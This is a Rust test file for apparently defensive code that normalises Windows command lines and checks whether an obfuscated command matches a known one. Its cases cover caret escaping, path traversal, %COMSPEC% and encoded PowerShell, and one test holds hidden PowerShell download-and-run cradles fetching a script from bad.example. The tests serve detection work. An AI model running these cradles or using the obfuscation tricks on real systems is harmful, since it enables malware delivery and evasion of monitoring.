use super::*;
use crate::link::testing::settings;
use proptest::prelude::*;

fn tools() -> BTreeSet<String> {
    super::super::programs(&settings())
}

fn canon(line: &str) -> Canonical {
    canonical(line, settings().knowledge.as_deref(), &tools())
}

fn held(field: &str, image: &str, line: &str) -> Option<(f64, &'static str)> {
    compare(&canon(field), &of_process(image, line, settings().knowledge.as_deref(), &tools()))
}

#[test]
fn the_same_command_in_other_words_is_exact() {
    let cmd = r"C:\Windows\System32\cmd.exe";
    for (field, line) in [
        (r"c:\windows\system32\cmd.exe /k calc.exe", r#""C:\Windows\System32\cmd.exe" /k calc.exe"#),
        (r"cmd.exe /c calc", r#"cmd /c "calc""#),
        (r"cmd /c c^alc.e^xe", r"C:\WINDOWS\system32\cmd.exe /c calc.exe"),
        (r"C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\windows\system32\cmd.exe /c calc", r"cmd.exe /c calc"),
        (r"cmd /c whoami > %TEMP%\out.txt", r"/c whoami > %TEMP%\out.txt"),
        (r"%COMSPEC% /c calc", r"C:\Windows\System32\cmd.exe /c calc"),
        (r"cmd  /q  /c   calc", r"cmd.exe /q /c calc"),
    ] {
        assert_eq!(held(field, cmd, line), Some((1.0, "exact")), "{field} and {line}");
    }
}

#[test]
fn encoded_and_plain_are_the_same() {
    // "whoami" in UTF-16LE.
    let shell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let field = "powershell -e dwBoAG8AYQBtAGkA";
    assert_eq!(held(field, shell, "powershell.exe -EncodedCommand dwBoAG8AYQBtAGkA"), Some((1.0, "exact")));
}

#[test]
fn less_than_the_same() {
    let cmd = r"C:\Windows\System32\cmd.exe";
    let field = "cmd /c powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://bad.example/a.ps1')";
    let other = "cmd /c start /min powershell IEX(iwr http://bad.example/a.ps1)";
    assert_eq!(held(field, cmd, other), Some((0.7, "partial")));
    assert_eq!(held(field, cmd, "cmd.exe /c ver"), Some((0.4, "image")));
    assert_eq!(held(field, r"C:\Windows\splwow64.exe", "splwow64.exe 8192"), None);
    assert_eq!(held("cmd /c calc.exe", cmd, "cmd /c notepad.exe"), Some((0.4, "image")));
}

#[test]
fn what_a_shell_runs_is_a_layer_of_it() {
    let found = canon(r#"cmd /c "powershell -w hidden calc""#);
    assert_eq!(found.inner.map(|inner| inner.image).as_deref(), Some("powershell.exe"));
}

proptest! {
    #[test]
    fn once_is_enough(line in r#"[a-dA-D^"' /.%\\:=-]{0,40}"#) {
        let once = canon(&line);
        let twice = canon(&once.line);
        prop_assert_eq!(&twice.line, &canon(&twice.line).line);
        prop_assert!(compare(&once, &once).is_none_or(|(confidence, _)| confidence == 1.0));
    }

    /// Tricks that a shell takes back never make a command look like another.
    #[test]
    fn tricks_change_nothing(name in "[a-z]{3,8}", file in "[a-z]{2,8}", seed in any::<u64>()) {
        let plain = format!(r"cmd.exe /c {name}.exe C:\data\{file}.txt /x");
        let mut tricked = String::new();
        let mut bits = seed;
        for (at, c) in plain.chars().enumerate() {
            if at > 10 && c.is_ascii_lowercase() && bits & 1 == 1 {
                tricked.push('^');
            }
            if c == ' ' && bits & 2 == 2 {
                tricked.push(' ');
            }
            tricked.push(if bits & 4 == 4 { c.to_ascii_uppercase() } else { c });
            bits = bits.rotate_right(3);
        }
        let found = compare(&canon(&tricked), &canon(&plain)).map(|(confidence, _)| confidence);
        prop_assert!(found.is_some_and(|confidence| confidence >= 0.9), "{} gives {:?}", tricked, found);
    }
}
